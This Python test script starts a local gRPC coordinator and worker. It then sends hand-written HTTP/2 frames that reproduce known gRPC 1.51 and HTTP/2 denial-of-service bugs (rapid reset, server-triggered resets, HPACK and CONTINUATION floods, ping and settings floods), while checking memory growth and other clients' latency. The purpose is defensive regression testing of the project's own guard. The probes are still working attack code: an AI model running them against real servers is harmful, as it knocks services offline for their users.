#!/usr/bin/env python3
"""Strangers at the gRPC port speak HTTP/2 that no library would write: the known weaknesses of gRPC 1.51 and of HTTP/2.

While a probe lasts, and after it, the coordinator lives and has not grown beyond a bound, and another client's tokens and calls come
within a bound. Frames are written by hand (RFC 9113, RFC 7541). With --full each probe lasts 20 s. Half of them fell gRPC 1.51 where
nothing stands before it (coordinator/http2_guard).
"""
import contextlib
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4

LONGEST_WAIT_S = 5  # of others, for a token or an answer, on machines that do much else
MOST_GROWTH = 128 << 20  # bytes of the coordinator's memory, over one probe
# Of streams that are left: a burst of 2,048, and those of the connection that overdraws it, of some 46 KiB each.
MOST_GROWTH_BY_LEFT = 256 << 20
HEALTH = "/grpc.health.v1.Health/Check"
GENERATE = "/skein.v1.Inference/Generate"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, bits, first=0):
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytearray([first | most]), value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + bytes([value]))


def literal(name, value, indexed=False):
    name, value = name.encode(), value if isinstance(value, bytes) else value.encode()
    return bytes([0x40 if indexed else 0]) + integer(len(name), 7) + name + integer(len(value), 7) + value


def request(path, more=b"", te="trailers", scheme="http"):
    return (literal(":method", "POST") + literal(":scheme", scheme) + literal(":path", path) + literal(":authority", "x")
            + literal("te", te) + literal("content-type", "application/grpc") + more)


def message(payload=b""):
    return b"\0" + struct.pack(">I", len(payload)) + payload


class Client:
    """A connection of HTTP/2. Acknowledges what must be, and gives windows as it reads."""

    def __init__(self, address):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=LONGEST_WAIT_S)
        self.buffer = b""
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

    def close(self):
        self.socket.close()

    def send(self, data):
        """False: the other end is gone, or takes no more."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def read(self):
        """The next frame's kind, flags, stream and payload."""
        while True:
            if len(self.buffer) >= 9:
                size = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) >= 9 + size:
                    kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
                    payload, self.buffer = self.buffer[9:9 + size], self.buffer[9 + size:]
                    if kind == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                    if kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
                    if kind == DATA and payload:
                        more = struct.pack(">I", len(payload))
                        self.send(frame(WINDOW_UPDATE, 0, 0, more) + frame(WINDOW_UPDATE, 0, stream, more))
                    return kind, flags, stream, payload
            data = self.socket.recv(65536)
            if not data:
                raise EOFError("the connection was closed")
            self.buffer += data

    def call(self, stream, path, payload=b"", on_data=None):
        """Makes a call, and reads to its end; the bytes of its answer."""
        self.send(frame(HEADERS, END_HEADERS, stream, request(path)) + frame(DATA, END_STREAM, stream, message(payload)))
        answer = b""
        while True:
            kind, flags, of, data = self.read()
            if kind == GOAWAY:
                raise EOFError("GOAWAY")
            if of != stream:
                continue
            if kind == DATA:
                answer += data
                if on_data:
                    on_data()
            if kind == RST_STREAM:
                raise EOFError("the stream was reset")
            if kind == HEADERS and flags & END_STREAM:
                return answer


class Cluster:
    """A coordinator and a worker, whose answers others read meanwhile."""

    def __init__(self, coordinator, worker, folder):
        port_file = os.path.join(folder, "port")
        self.coordinator = subprocess.Popen([coordinator, "--model=checkpoints/bard", "--listen=127.0.0.1:0",
                                             "--port-file=" + port_file, "--log-level=warning"])
        self.address = None
        self.wait("a port", lambda: os.path.exists(port_file))
        with open(port_file, encoding="utf-8") as file:
            self.address = file.read().strip()
        self.worker = subprocess.Popen([*worker, "--coordinator=" + self.address, "--log-level=warning"])
        self.wait("a replica", lambda: Client(self.address).call(1, HEALTH) == message(b"\x08\x01"))

    def wait(self, what, predicate):
        deadline = time.monotonic() + 60
        while not predicate():
            assert time.monotonic() < deadline and self.coordinator.poll() is None, f"no {what}"
            time.sleep(0.05)

    def memory(self):
        with open(f"/proc/{self.coordinator.pid}/status", encoding="utf-8") as file:
            return next(int(line.split()[1]) << 10 for line in file if line.startswith("VmRSS:"))

    def close(self):
        for process in (self.worker, self.coordinator):
            process.send_signal(signal.SIGTERM)
        for process in (self.worker, self.coordinator):
            process.wait(30)


class Bystander:
    """Reads a long answer again and again, and asks for the health over new connections: the longest wait is its result."""

    def __init__(self, address):
        self.address, self.longest, self.events, self.failures, self.over = address, 0.0, 0, [], False
        self.connected, self.refused = 0, 0
        self.threads = [threading.Thread(target=self.watch, args=(of,)) for of in (self.stream, self.ask)]
        for thread in self.threads:
            thread.start()

    def watch(self, of):
        try:
            of()
        except Exception as error:  # pylint: disable=broad-except
            self.failures.append(f"{of.__name__}: {error!r}")

    def tick(self):
        now = time.monotonic()
        self.longest, self.last, self.events = max(self.longest, now - self.last), now, self.events + 1

    def connect(self):
        """A connection by which a call came through. One that is refused among many is made again, as gRPC's clients do; what it takes
        in all counts."""
        begin = time.monotonic()
        while True:
            client = Client(self.address)
            try:
                assert client.call(1, HEALTH) == message(b"\x08\x01")
                self.longest, self.connected = max(self.longest, time.monotonic() - begin), self.connected + 1
                return client
            except ConnectionResetError:
                client.close()
                self.refused += 1
                if time.monotonic() - begin > LONGEST_WAIT_S:
                    raise
            time.sleep(0.02)

    def stream(self):
        client, stream = self.connect(), 3
        while not self.over:
            self.last = time.monotonic()
            # prompt, sampling.ignore_eos, max_tokens
            answer = client.call(stream, GENERATE, b"\x12\x06ROMEO:" + b"\x28" + integer_varint(60), self.tick)
            assert answer, "no answer"
            stream += 2

    def ask(self):
        while not self.over:
            self.connect().close()
            time.sleep(0.02)

    def end(self):
        self.over = True
        for thread in self.threads:
            thread.join(30)


def integer_varint(value):
    out = bytearray()
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + bytes([value]))


# ---- Probes: each gets the address and for how long it may go on, in seconds ----

def until(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield


def headers_that_are_counted_wrongly(address, seconds):
    """CVE-2023-1428: sizes of headers with wrong values were taken by functions that abort."""
    for _ in until(seconds):
        for more, fields in ((b"", {"te": "x"}), (b"", {"scheme": "x"}), (literal("grpclb_client_stats", "x"), {})):
            for indexed in (False, True):
                client = Client(address)
                block = request(HEALTH, more, **fields) + b"".join(
                    literal(f"h{i}", "y" * 4000, indexed) for i in range(4))
                client.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block[:16000])
                            if len(block) <= 16000 else
                            frame(HEADERS, END_STREAM, 1, block[:16000])
                            + frame(CONTINUATION, END_HEADERS, 1, block[16000:]))
                client.send(frame(PING, 0, 0, b"12345678"))
                with contextlib.suppress(OSError, EOFError):
                    while client.read()[0] not in (GOAWAY, PING):
                        pass
                client.close()


def a_header_of_gigabytes(address, seconds):
    """CVE-2023-33953: a string was kept before its length was looked at."""
    for _ in until(seconds):
        client = Client(address)
        client.send(frame(HEADERS, 0, 1, request(HEALTH) + b"\0" + integer(1, 7) + b"a" + integer(1 << 31, 7)))
        chunk = frame(CONTINUATION, 0, 1, b"z" * 16384)
        sent = 0
        while sent < 256 << 20 and client.send(chunk):
            sent += len(chunk)
        client.close()


def a_number_without_end(address, seconds):
    """CVE-2023-33953: numbers may be padded with zeros, each of which was read again with all before it."""
    for _ in until(seconds):
        client = Client(address)
        client.send(frame(HEADERS, 0, 1, request(HEALTH) + b"\0" + integer(1, 7) + b"a" + b"\xff"))
        for _ in range(2000):
            if not client.send(frame(CONTINUATION, 0, 1, b"\x80" * 1024)):
                break
        client.close()


def headers_without_end(address, seconds):
    """CVE-2023-33953: the limit was of one frame; CONTINUATION frames without an end."""
    for _ in until(seconds):
        client = Client(address)
        client.send(frame(HEADERS, 0, 1, request(HEALTH)))
        for i in range(2000):
            block = b"".join(literal(f"h{i}-{j}", "v" * 900) for j in range(16))
            if not client.send(frame(CONTINUATION, 0, 1, block)):
                break
        client.close()


def many_references(address, seconds):
    """A large entry of the table, named by one byte each time."""
    for _ in until(seconds):
        client = Client(address)
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(HEALTH, literal("big", "v" * 3000, True))))
        for i in range(200):
            if not client.send(frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * i, request(HEALTH, b"\xbe" * 10000))):
                break
        client.close()


def rapid_reset(address, seconds, clients=4):
    """CVE-2023-44487: streams that are begun and reset at once do not count as open ones."""
    def attack():
        for _ in until(seconds):
            client = Client(address)
            stream = 1
            with contextlib.suppress(OSError):
                for _ in until(seconds):
                    burst = b""
                    for _ in range(100):
                        burst += (frame(HEADERS, END_HEADERS, stream, request(GENERATE))
                                  + frame(DATA, END_STREAM, stream, message(b"\x12\x06ROMEO:"))
                                  + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                        stream += 2
                    if stream > 1 << 30 or not client.send(burst):
                        break
            client.close()
    threads = [threading.Thread(target=attack) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def resets_by_the_server(address, seconds):
    """CVE-2025-8671: frames that must not be make the server reset streams, whose calls go on."""
    for _ in until(seconds):
        client = Client(address)
        stream = 1
        for _ in until(seconds):
            burst = b""
            for _ in range(100):
                burst += (frame(HEADERS, END_HEADERS, stream, request(GENERATE))
                          + frame(DATA, END_STREAM, stream, message(b"\x12\x06ROMEO:"))
                          + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))
                stream += 2
            if stream > 1 << 30 or not client.send(burst):
                break
        client.close()


def streams_that_stay(address, seconds):
    """As many calls at once as the port takes, of which none ends its request."""
    clients = [Client(address) for _ in range(4)]
    stream = 1
    for _ in until(seconds):
        for client in clients:
            client.send(b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, request(GENERATE)) for i in range(100)))
        stream += 200
        if stream > 40000:
            break
    for client in clients:
        client.close()


def wrong_base64(address, seconds):
    """CVE-2023-32731, -32732: values of binary headers that are no base64, in the table and out of it."""
    for _ in until(seconds):
        client = Client(address)
        for i in range(50):
            more = literal("x-bin", "not base64 !" + "=" * (i % 5), indexed=i % 2 == 1)
            if not client.send(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request(HEALTH, more))):
                break
        client.close()


def pings_and_settings(address, seconds):
    """Frames that must be answered (CVE-2019-9512, -9515), by a client that reads no answer."""
    for _ in until(seconds):
        client = Client(address)
        for _ in range(2000):
            if not client.send(frame(PING, 0, 0, b"x" * 8) * 50 + frame(SETTINGS, 0, 0) * 50):
                break
        client.close()


def streams_on_many_connections(address, seconds):
    """No connection has more of them than it may."""
    clients = [Client(address) for _ in range(20)]
    for client in clients:
        client.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, request(GENERATE)) for i in range(1000)))
    time.sleep(seconds)
    for client in clients:
        client.close()


def connections_that_leave_streams(address, seconds):
    """As rapid reset, by whole connections."""
    begun = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, request(GENERATE)) for i in range(1000))
    for _ in until(seconds):
        client = Client(address)
        client.send(begun)
        client.close()


def settings_alone(address, seconds):
    """CVE-2019-9515: each must be acknowledged, and the client reads no acknowledgement."""
    for _ in until(seconds):
        client = Client(address)
        while client.send(frame(SETTINGS, 0, 0) * 1000):
            pass
        client.close()


def frames_that_say_nothing(address, seconds):
    """CVE-2019-9518: DATA and CONTINUATION without content, on and on."""
    for of in (lambda c: c.send(frame(HEADERS, END_HEADERS, 1, request(GENERATE)) + frame(DATA, 0, 1) * 5000)
               and all(c.send(frame(DATA, 0, 1) * 5000) for _ in range(500)),
               lambda c: c.send(frame(HEADERS, 0, 1, request(GENERATE)))
               and all(c.send(frame(CONTINUATION, 0, 1) * 5000) for _ in range(500))):
        for _ in until(seconds / 2):
            client = Client(address)
            of(client)
            client.close()


def connections_that_say_nothing(address, seconds):
    """CVE-2023-4785: as many connections as there are descriptors here, and half a preface."""
    host, port = address.rsplit(":", 1)
    sockets = []
    for _ in until(seconds):
        with contextlib.suppress(OSError):
            sockets.append(socket.create_connection((host, int(port)), timeout=1))
            sockets[-1].sendall(b"PRI * HT")
        if len(sockets) >= 800:
            break
    for one in sockets:
        one.close()


PROBES = (headers_that_are_counted_wrongly, many_references, wrong_base64, pings_and_settings, settings_alone,
          frames_that_say_nothing, connections_that_say_nothing, streams_that_stay, streams_on_many_connections,
          connections_that_leave_streams,
          rapid_reset, resets_by_the_server, headers_without_end, a_number_without_end, a_header_of_gigabytes)


def main(probes, seconds):
    failed = []
    with tempfile.TemporaryDirectory() as folder:
        cluster = Cluster("coordinator/coordinator", ["tests/mpi/mpirun.sh", "1", "worker/worker", "--no-probe"], folder)
        try:
            bystander = Bystander(cluster.address)  # what it takes counts for no probe
            time.sleep(1)
            bystander.end()
            for probe in probes:
                before = cluster.memory()
                bystander = Bystander(cluster.address)
                most = before
                thread = threading.Thread(target=probe, args=(cluster.address, seconds))
                thread.start()
                while thread.is_alive():
                    if cluster.coordinator.poll() is None:
                        most = max(most, cluster.memory())
                    thread.join(0.05)
                bystander.end()
                died = cluster.coordinator.poll()
                grown = most - before
                print(f"{probe.__name__}: grew by {grown / (1 << 20):.1f} MiB, others waited {bystander.longest:.2f} s at most, "
                      f"{bystander.events} events, {bystander.refused} of their {bystander.refused + bystander.connected} "
                      "connections were refused", flush=True)
                wrong = list(bystander.failures)
                if died is not None:
                    wrong.append(f"the coordinator ended with {died}")
                if grown > (MOST_GROWTH_BY_LEFT if probe is connections_that_leave_streams else MOST_GROWTH):
                    wrong.append(f"it grew by {grown} bytes")
                if bystander.longest > LONGEST_WAIT_S or bystander.events == 0:
                    wrong.append("others waited too long")
                if bystander.refused > bystander.connected:
                    wrong.append("most of others' connections were refused")
                if wrong:
                    failed.append(f"{probe.__name__}: {'; '.join(wrong)}")
                if died is not None:
                    break
        finally:
            cluster.close()
    for line in failed:
        print("FAILED:", line)
    return bool(failed)


if __name__ == "__main__":
    sys.exit(main(PROBES, 20 if "--full" in sys.argv else 1))
